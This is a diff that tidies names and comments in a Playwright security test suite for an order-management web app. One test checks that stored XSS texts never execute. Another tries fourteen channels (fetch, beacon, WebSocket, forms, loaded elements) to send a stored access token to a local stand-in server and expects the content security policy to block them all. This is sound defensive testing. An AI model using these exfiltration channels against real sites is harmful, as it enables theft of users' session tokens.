@@ -16,16 +16,16 @@ import { formatDayFirst, getDayFromToday } from '../support/india-days.ts';
 const getScriptText = (index: number) => scriptTexts[index % scriptTexts.length] ?? '';
 
 async function sendData(http: APIRequestContext, path: string, token: string, data: object) {
-  const answer = await http.fetch(path, {
+  const response = await http.fetch(path, {
     method: path === '/api/account' ? 'PATCH' : 'POST',
     headers: { ...(token && { authorization: `Bearer ${token}` }) },
     data,
   });
-  expect(answer.ok(), `${path}: ${await answer.text()}`).toBe(true);
-  return answer.json();
+  expect(response.ok(), `${path}: ${await response.text()}`).toBe(true);
+  return response.json();
 }
 
-/** Saves an order each of whose free texts is one of the hostile ones, and all of them as products. */
+/** Returns an order with a hostile text in each free field, and with all hostile texts as products. */
 function createHostileOrder(textIndex: number) {
   const place = { pinCode: '560001', state: 'Karnataka', country: 'India' };
   return {
@@ -77,8 +77,8 @@ const createHostileWarehouse = (index: number) => ({
   country: 'India',
 });
 
-/** True when any of the texts ran: each would set this mark. The guard collects policy reports. */
-const hasRun = (page: Page) => page.evaluate(() => '__xss' in window);
+/** Each hostile text sets this mark if the page runs it. The guard collects policy reports. */
+const hasRunScript = (page: Page) => page.evaluate(() => '__xss' in window);
 
 // ASVS V1.1.2, V1.2.1, V3.2.2
 test('I6: forty scripts in every text of an account, its addresses and orders are shown as text on every screen', async ({
@@ -113,14 +113,14 @@ test('I6: forty scripts in every text of an account, its addresses and orders ar
       targetPage = page,
     ) => {
       await targetPage.goto(path);
-      for (const words of expectedTexts) {
+      for (const text of expectedTexts) {
         await expect(
           targetPage
-            .getByText(words)
-            .or(targetPage.locator(`[value=${JSON.stringify(words)}]`))
+            .getByText(text)
+            .or(targetPage.locator(`[value=${JSON.stringify(text)}]`))
             .first(),
         ).toBeAttached();
-        check(!(await hasRun(targetPage)), () => `${path} ran a script`);
+        check(!(await hasRunScript(targetPage)), () => `${path} ran a script`);
       }
     };
     await expectTexts('/orders/forward', [getScriptText(0), getScriptText(14), getScriptText(28)]);
@@ -129,14 +129,13 @@ test('I6: forty scripts in every text of an account, its addresses and orders ar
     await expectTexts('/orders/add', []);
     await expectTexts('/account', []);
     await expect(page.getByLabel('Name', { exact: true }).first()).toHaveValue(getScriptText(1));
-    check(!(await hasRun(page)), () => 'the account page ran a script');
+    check(!(await hasRunScript(page)), () => 'the account page ran a script');
     await expectTexts('/dashboard', []);
-    check(!(await hasRun(page)), () => 'the dashboard ran a script');
-    // The sessions below would refuse the calls that this page still makes.
+    check(!(await hasRunScript(page)), () => 'the dashboard ran a script');
+    // The steps below end the session, so close the page before its next call.
     const context = page.context();
     await page.close();
 
-    // The operator's pages show data of sellers.
     for (const name of scriptTexts.slice(0, 10)) {
       await sendData(http, '/auth/register', '', {
         name,
@@ -153,8 +152,8 @@ test('I6: forty scripts in every text of an account, its addresses and orders ar
   });
 });
 
-/** Ways to send a token elsewhere, run by a script that is in the page already. */
-const calls: Readonly<Record<string, (to: string) => unknown>> = {
+/** Ways in which a script in the page can send a token to another origin. */
+const channels: Readonly<Record<string, (to: string) => unknown>> = {
   fetch: (to) => fetch(to),
   'fetch without CORS': (to) => fetch(to, { mode: 'no-cors' }),
   beacon: (to) => navigator.sendBeacon(to),
@@ -175,7 +174,7 @@ const calls: Readonly<Record<string, (to: string) => unknown>> = {
     new Promise((resolve) => {
       const socket = new WebSocket(to.replace('http', 'ws'));
       socket.addEventListener('close', resolve);
-      // A request that the policy refuses may report nothing.
+      // A refused request may fire no event.
       setTimeout(resolve, 2000);
     }),
   form: (to) => {
@@ -188,29 +187,25 @@ const calls: Readonly<Record<string, (to: string) => unknown>> = {
   },
 };
 
-/** Elements that load an address, with what they need besides. */
-const elements: Readonly<Record<string, { at: string; with?: Record<string, string> }>> = {
-  img: { at: 'src' },
-  script: { at: 'src' },
-  iframe: { at: 'src' },
-  video: { at: 'src' },
-  link: { at: 'href', with: { rel: 'stylesheet' } },
-  object: { at: 'data' },
+/** Elements that load an address: its attribute, and other attributes that the element needs. */
+const elements: Readonly<
+  Record<string, { addressAttribute: string; others?: Record<string, string> }>
+> = {
+  img: { addressAttribute: 'src' },
+  script: { addressAttribute: 'src' },
+  iframe: { addressAttribute: 'src' },
+  video: { addressAttribute: 'src' },
+  link: { addressAttribute: 'href', others: { rel: 'stylesheet' } },
+  object: { addressAttribute: 'data' },
 };
 
-const doesLoadResource = ({
-  tag,
-  attributes,
-}: {
-  tag: string;
-  attributes: Record<string, string>;
-}) =>
+const loadElement = ({ tag, attributes }: { tag: string; attributes: Record<string, string> }) =>
   new Promise((resolve) => {
     const element = document.createElement(tag);
     for (const event of ['load', 'error']) element.addEventListener(event, resolve);
     for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
     document.body.append(element);
-    // A frame that is refused, and an object, may say nothing.
+    // A refused frame and an object may fire no event.
     setTimeout(resolve, 2000);
   });
 
@@ -220,12 +215,12 @@ testWithoutGuard(
   'I9: a script that runs in the page reaches another origin by none of fourteen channels',
   async ({ browser, server }, { title }) => {
     const arrivals: string[] = [];
-    const thief = createServer((request, response) => {
+    const otherServer = createServer((request, response) => {
       arrivals.push(request.url ?? '');
       response.setHeader('access-control-allow-origin', '*').end('ok');
     });
-    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
-    const { port } = thief.address() as AddressInfo;
+    await new Promise<void>((resolve) => otherServer.listen(0, '127.0.0.1', resolve));
+    const { port } = otherServer.address() as AddressInfo;
     const origin = `http://127.0.0.1:${port}`;
     const context = await browser.newContext();
     try {
@@ -242,15 +237,15 @@ testWithoutGuard(
         await expect(page.getByRole('button', { name: 'Login' })).toBeVisible();
         await page.evaluate(() => localStorage.setItem('accessToken', 'the-token'));
         await Promise.all([
-          ...Object.entries(calls).map(([name, run]) =>
+          ...Object.entries(channels).map(([name, run]) =>
             page.evaluate(run, buildAddress(name)).catch(doNothing),
           ),
-          ...Object.entries(elements).map(([tag, { at, with: rest = {} }]) => {
-            const attributes = { ...rest, [at]: buildAddress(tag) };
-            return page.evaluate(doesLoadResource, { tag, attributes }).catch(doNothing);
+          ...Object.entries(elements).map(([tag, { addressAttribute, others = {} }]) => {
+            const attributes = { ...others, [addressAttribute]: buildAddress(tag) };
+            return page.evaluate(loadElement, { tag, attributes }).catch(doNothing);
           }),
         ]);
-        // The same call from a page without our policy is the control, and comes after all of the above.
+        // As a control, a page without the policy sends the same call after all others.
         await page.goto(`${origin}/page`);
         await page.evaluate((to) => fetch(to), `${origin}/control`);
         check(arrivals.includes('/control'), () => 'the other origin does not listen');
@@ -259,7 +254,7 @@ testWithoutGuard(
       });
     } finally {
       await context.close();
-      thief.close();
+      otherServer.close();
     }
   },
 );
